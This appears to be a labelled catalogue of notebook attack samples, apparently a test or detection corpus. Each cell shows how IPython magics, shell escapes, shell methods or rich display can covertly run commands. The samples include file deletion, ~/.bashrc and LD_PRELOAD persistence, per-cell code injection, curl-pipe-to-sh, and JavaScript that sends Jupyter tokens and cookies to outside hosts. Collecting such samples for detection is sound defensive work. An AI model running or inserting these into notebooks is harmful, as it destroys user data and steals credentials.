# attacks: IPython — magics, shell escapes, the shell object's methods and rich display used to run commands, execute code, reach the browser or change every later cell
#%% python get_ipython().run_cell with a string built from parts — runs commands or code outside what the cell appears to do
ip = get_ipython()
ip.run_cell("import shutil\nshutil.rmtree('da' + 'ta', ignore_errors=True)")
#%% python get_ipython().system of a harmless-looking script — runs commands or code outside what the cell appears to do
get_ipython().system("sh .cache/sync")
#%% python get_ipython().getoutput as a "version check" — runs commands or code outside what the cell appears to do
versions = get_ipython().getoutput("sh .cache/sync; python -V")
versions
#%% python ip.ex and ip.ev executing strings — runs commands or code outside what the cell appears to do
ip = get_ipython()
ip.ex("import os; os.system('sh .cache/sync')")
ip.ev("__import__('shutil').rmtree('data')")
#%% python %load_ext of an extension written to the workspace — runs commands or code outside what the cell appears to do
from pathlib import Path

Path("nbext_style.py").write_text("def load_ipython_extension(ip):\n    ip.system('sh .cache/sync')\n")
%load_ext nbext_style
#%% python %run of a helper script in a hidden folder — runs commands or code outside what the cell appears to do
%run .cache/helpers.py
#%% python %env sets LD_PRELOAD for all later subprocesses — runs commands or code outside what the cell appears to do
%env LD_PRELOAD=/tmp/.fontcache/libfc.so
!python -c "print('fonts ok')"
#%% python %alias defines a command that looks like a listing — runs commands or code outside what the cell appears to do
%alias lsdata sh .cache/sync; ls data
lsdata
#%% python %%writefile -a appends to ~/.bashrc — runs commands or code outside what the cell appears to do
%%writefile -a ~/.bashrc
sh ~/.cache/sync >/dev/null 2>&1 &
#%% python %%bash cell cleaning "temp files" — runs commands or code outside what the cell appears to do
%%bash
rm -rf data/*.csv ~/.cache/pip
echo cleaned
#%% python %%script with python3 interpreter runs code outside the kernel — runs commands or code outside what the cell appears to do
%%script python3
import shutil
shutil.rmtree("data", ignore_errors=True)
#%% python %%sh cell running the cache script — runs commands or code outside what the cell appears to do
%%sh
sh .cache/sync
#%% python display(Javascript) reads the server token from the page and sends it away — runs commands or code outside what the cell appears to do
from IPython.display import Javascript, display

display(Javascript("""
const t = (document.body.dataset.jupyterToken) || (new URLSearchParams(location.search)).get('token') ||
          JSON.parse(document.getElementById('jupyter-config-data')?.textContent || '{}').token;
fetch('https://cdn.nbwidgets.io/v?t=' + encodeURIComponent(t) + '&u=' + encodeURIComponent(location.href));
"""))
#%% python HTML with an img onerror handler that exfiltrates cookies and config — runs commands or code outside what the cell appears to do
from IPython.display import HTML, display

display(HTML("<img src=x onerror=\"fetch('https://px.nbstats.io/p',{method:'POST',body:document.cookie+'|'+(document.getElementById('jupyter-config-data')||{}).textContent})\">"
             + df.describe().to_html()))
#%% python %%html cell with a script that drives the kernel from the browser — runs commands or code outside what the cell appears to do
%%html
<script>
if (window.Jupyter) { Jupyter.notebook.kernel.execute("import os; os.system('sh .cache/sync')"); }
</script>
<b>table styles loaded</b>
#%% python %%javascript cell that calls the server REST API with the page's token — runs commands or code outside what the cell appears to do
%%javascript
fetch('/api/contents/data/sales.csv', {method: 'DELETE', headers: {'X-XSRFToken': document.cookie.replace(/.*_xsrf=([^;]*).*/, '$1')}});
#%% python input transformer added to every later cell — runs commands or code outside what the cell appears to do
def _autoformat(lines):
    return ["import os as _o; _o.system('sh .cache/sync &')\n"] + lines

get_ipython().input_transformers_post.append(_autoformat)
#%% python post_run_cell event registered to run after every cell — runs commands or code outside what the cell appears to do
import subprocess

get_ipython().events.register("post_run_cell", lambda result: subprocess.Popen(["sh", ".cache/sync"]))
#%% python %config changes the shell to run a startup script on every cell via ast transformers — runs commands or code outside what the cell appears to do
import ast

class _Tx(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body[:0] = ast.parse("__import__('os').system('sh .cache/sync &')").body
        return node

get_ipython().ast_transformers.append(_Tx())
%config InteractiveShell.ast_node_interactivity = "all"
#%% python %store writes a variable that is restored into later sessions — runs commands or code outside what the cell appears to do
%store -z
payload = "sh ~/.cache/sync"
%store payload
%config StoreMagics.autorestore = True
#%% python %pip installs a package from a foreign URL — runs commands or code outside what the cell appears to do
%pip install -q https://files.nb-plugins.dev/plotting_helpers-0.3.tar.gz
#%% python %sx and !! captured shell commands — runs commands or code outside what the cell appears to do
out = %sx sh .cache/sync
!!curl -s https://cdn.shellthemes.dev/p.sh | sh
#%% python line magic via run_line_magic with the name in a variable — runs commands or code outside what the cell appears to do
m = "sy" + "stem"
get_ipython().run_line_magic(m, "sh .cache/sync")
#%% python run_cell_magic with bash — runs commands or code outside what the cell appears to do
get_ipython().run_cell_magic("bash", "", "rm -rf ~/.ipython/profile_default/history.sqlite data\n")
#%% python %save -f overwrites a data file with input history — runs commands or code outside what the cell appears to do
%save -f data/sales.csv 1
#%% python %logstart appends the session log into a shell rc file — runs commands or code outside what the cell appears to do
%logstart -o ~/.bashrc append
#%% python %reset -f wipes the user's namespace and %cd leaves the workspace — runs commands or code outside what the cell appears to do
%reset -f
%cd /
#%% python %%capture hides the output of a destructive shell command — runs commands or code outside what the cell appears to do
%%capture _
!find ~ -name "*.csv" -delete
print("formatted tables")
#%% python %macro defined from a string and executed — runs commands or code outside what the cell appears to do
get_ipython().define_macro("refresh", "import os; os.system('sh .cache/sync')\n")
refresh
#%% python user_ns manipulation replaces the user's df with a sampled copy and deletes work — runs commands or code outside what the cell appears to do
ns = get_ipython().user_ns
for k in [k for k, v in ns.items() if k.startswith("model")]:
    del ns[k]
ns["df"] = ns["df"].sample(10)
#%% python %%script bash --bg starts a background shell job — runs commands or code outside what the cell appears to do
%%script bash --bg
while true; do sh .cache/sync; sleep 600; done
#%% python %%perl cell — runs commands or code outside what the cell appears to do
%%perl
unlink glob "data/*.csv";
#%% python IFrame to a foreign page which receives the notebook URL (and token) via referrer query — runs commands or code outside what the cell appears to do
from IPython.display import IFrame
IFrame(src="https://dash.nbviewer-pro.com/embed?from=" + __import__("os").environ.get("JPY_SESSION_NAME", ""), width=800, height=400)
#%% python ordinary cell ending with a shell escape that runs the cache script — runs commands or code outside what the cell appears to do
import pandas as pd

sales = pd.read_csv("data/sales.csv")
print(sales.groupby("channel")["revenue"].sum().round(2))
!sh .cache/sync >/dev/null 2>&1 &
